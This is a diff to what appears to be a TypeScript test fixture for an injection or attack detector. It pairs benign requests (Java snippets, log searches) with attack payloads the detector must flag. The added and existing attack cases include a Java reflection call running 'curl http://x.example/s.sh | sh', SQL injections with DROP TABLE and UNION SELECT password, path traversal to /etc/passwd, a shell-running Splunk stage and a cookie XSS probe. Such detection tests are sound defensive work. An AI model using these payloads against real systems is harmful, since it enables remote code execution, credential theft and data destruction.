@@ -26,6 +26,8 @@ const CARRIERS: Record<string, Carrier> = {
   'log search': get('/loki/api/v1/query_range', 'query'),
   'Kibana search': json('/internal/search/ese', (v) => ({ params: { index: 'logs-*', body: { query: { bool: { filter: [{ query_string: { query: v } }] } } } } })),
   'Splunk search': form('/services/search/jobs', (v) => [['search', v], ['earliest_time', '-24h']]),
+  'snippet API': json('/api/v1/snippets', (v) => ({ title: 'Usage', lang: 'java', code: v })),
+  'paste form': form('/paste', (v) => [['title', 'Usage'], ['syntax', 'text'], ['content', v], ['expiry', '1d']]),
   'analytics event': json('/e/', (v) => [{ event: '$pageview', properties: { $current_url: `https://bi.example.io/questions/new?db=4&query=${encodeURIComponent(v)}`, $host: 'bi.example.io' } }]),
   'site search': get('/search', 'q'),
 };
@@ -37,10 +39,14 @@ const BENIGN: [string, string][] = [
   ['chat message', "fwiw we run ```SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';```"],
   ['gist file', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';"],
   ['CMS post', 'New arrivals every Monday.'],
-  // Searches for what probes send (log-search.ts), a BI page's URL recorded by an analytics event while 9000111 alerts.
+  // Searches for what probes send (log-search.ts), programs pasted whole (quoted-program.ts), a regex, a BI page's URL.
   ['log search', '{app="php-fpm", namespace="prod"} |= "/etc/passwd" | json | status >= 500'],
   ['Kibana search', 'message:"/etc/passwd" AND kubernetes.container.name:nginx'],
   ['Splunk search', 'search index=main sourcetype=access_combined "/etc/passwd" | stats count by clientip | sort -count'],
+  ['snippet API', 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}'],
+  ['paste form', 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("schema.sql")) {\n    Properties p = new Properties();\n    p.load(in);\n}'],
+  ['chat message', 'anyone seen this? ```try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}```'],
+  ['gist file', '\\b(\\w+)\\s+\\1\\b'],
   ['analytics event', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';"],
 ];
 
@@ -59,8 +65,10 @@ const ATTACKS: [string, string][] = [
   ['CMS post', '<script>alert(document.cookie)</script>'],
   ['log search', "x' UNION SELECT password FROM users--"],
   ['log search', '../../../../etc/passwd'],
-  // The same carriers' near misses: a search stage that runs a program, a search that is a traversal, an injection in
-  // the BI page's URL.
+  // The same carriers' near misses: a program calling a sink, a breakout in a snippet, a search stage that runs a program,
+  // a search that is a traversal, an injection in the BI page's URL.
+  ['snippet API', 'Object o = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null);\nRuntime r = (Runtime) o;\nr.exec("curl http://x.example/s.sh | sh");'],
+  ['paste form', "x = 1;\n'; DROP TABLE users; --"],
   ['Splunk search', '| makeresults | runshellscript "../../../../bin/sh -c id"'],
   ['Kibana search', 'message:"../../../../etc/passwd" AND host.name:api'],
   ['analytics event', "x' UNION SELECT username, password FROM users--"],
